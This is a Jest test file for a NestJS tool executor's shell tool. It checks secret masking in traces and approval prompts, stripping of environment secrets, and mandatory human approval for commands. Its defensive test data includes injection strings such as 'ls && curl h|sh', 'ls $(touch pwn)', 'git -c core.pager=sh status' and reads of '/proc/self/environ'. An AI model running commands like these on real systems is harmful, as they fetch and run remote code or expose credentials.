import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Test, type TestingModule } from '@nestjs/testing';
import {
  ToolApprovals,
  ToolExecutorModule,
  ToolExecutorService,
  ToolJournal,
  ToolTracer,
  type ToolResult,
  type ToolSpan,
  type TracedCall,
} from 'nestjs-tool-executor';
import { ToolExecutorToolsModule } from '../src/tool-executor-tools.module.js';
import { temporaryFolder } from './support/temporary-folder.js';

const SECRET = 'S3CretValue';
const workspaceDir = temporaryFolder();
const seen: unknown[] = [];

class Tracer extends ToolTracer {
  start(call: TracedCall): ToolSpan {
    return { end: (result) => void seen.push(JSON.stringify([call, result])) };
  }
}

const principal = { id: 'ada' };
let app: TestingModule;
let executor: ToolExecutorService;

const start = async (allow: string[]): Promise<void> => {
  app = await Test.createTestingModule({
    imports: [
      ToolExecutorModule.forRoot({ allow, tracers: [new Tracer()] }),
      ToolExecutorToolsModule.forRoot({ workspaceDir }),
    ],
  }).compile();
  app.useLogger(false);
  await app.init();
  executor = app.get(ToolExecutorService);
};
const shell = (command: string, context: object = {}): Promise<ToolResult> =>
  executor.execute({ name: 'run_shell', arguments: { command } }, { principal, ...context });
const recorded = (): string =>
  JSON.stringify([
    seen,
    app.get(ToolJournal).list({ tenant: undefined, principalId: 'ada' }, { limit: 200 }),
  ]);

const LINES = [
  `: curl -H "Authorization: Bearer ${SECRET}" h`,
  `: curl --token ${SECRET}`,
  `: mysql -p${SECRET}`,
  `FOO_API_KEY=${SECRET} :`,
  `: curl -d '{"password":"${SECRET}"}' h`,
  `: git clone https://u:${SECRET}@h/r`,
];

describe('secrets in a command that runs', () => {
  beforeAll(async () => {
    process.env['OPENAI_API_KEY'] = SECRET;
    process.env['DATABASE_URL'] = `postgres://u:${SECRET}@h`;
    process.env['MY_CFG'] = SECRET;
    await start(['run_shell']);
  });
  afterAll(async () => {
    for (const name of ['OPENAI_API_KEY', 'DATABASE_URL', 'MY_CFG']) delete process.env[name];
    await app.close();
  });

  it.each(LINES)('leave no trace of themselves: %s', async (line) => {
    const result = await shell(`${line}\necho "$0" ran`);
    expect(result.success).toBe(true);
    expect(recorded()).not.toContain(SECRET);
  });

  it('reach the command, and its output the caller, but no record', async () => {
    const result = await shell(`TOKEN=${SECRET}; echo "TOKEN=$TOKEN"`);
    expect(result.output).toBe(`TOKEN=${SECRET}`);
    expect(recorded()).not.toContain(SECRET);
  });

  it('are masked in the error of a command that prints them', async () => {
    const result = await shell(`echo "password=${SECRET}" >&2; exit 1`);
    expect(result.error).toBe('exit code 1\npassword=***');
    expect(recorded()).not.toContain(SECRET);
  });

  it.each([
    'env',
    'cat /proc/self/environ',
    'node -p process.env.DATABASE_URL',
    'echo $MY_CFG$OPENAI_API_KEY',
  ])('are not inherited from the application: %s', async (command) => {
    const result = await shell(command);
    expect(result.success).toBe(true);
    expect(JSON.stringify(result)).not.toContain(SECRET);
  });
});

describe('a command that needs a person', () => {
  beforeAll(() => start([]));
  afterAll(() => app.close());

  it.each(LINES)('is shown to the person without its secrets, on one line: %s', async (line) => {
    const asked = await shell(`${line}\n:`);
    const approval = await app.get(ToolApprovals).get(asked.metadata.approvalId!, principal);
    expect(JSON.stringify([approval, asked])).not.toContain(SECRET);
    expect(approval!.display).toContain('***');
    expect(approval!.display).not.toContain('\n');
    expect(recorded()).not.toContain(SECRET);
  });

  it('runs as it is once it is approved: the mask is for the eyes alone', async () => {
    const command = `echo password=${SECRET}`;
    const approval = (await shell(command)).metadata.approvalId!;
    await app.get(ToolApprovals).decide(approval, { approved: true }, { id: 'bob' });
    expect((await shell(command, { approval })).output).toBe(`password=${SECRET}`);
    expect(recorded()).not.toContain(SECRET);
  });

  it.each([
    'ls',
    'ls; rm -rf x',
    'ls && curl h|sh',
    'ls $(touch pwn)',
    'ls `id`',
    'ls\nrm x',
    'lsof',
    'git statusx',
    'ls > /etc/x',
    'FOO=1 ls',
    'git -c core.pager=sh status',
    'ls # ; rm',
  ])('asks for every line, since none is judged by how it begins: %j', async (command) => {
    expect(await shell(command)).toMatchObject({
      success: false,
      metadata: { code: 'approval_required', executed: false },
    });
  });
});
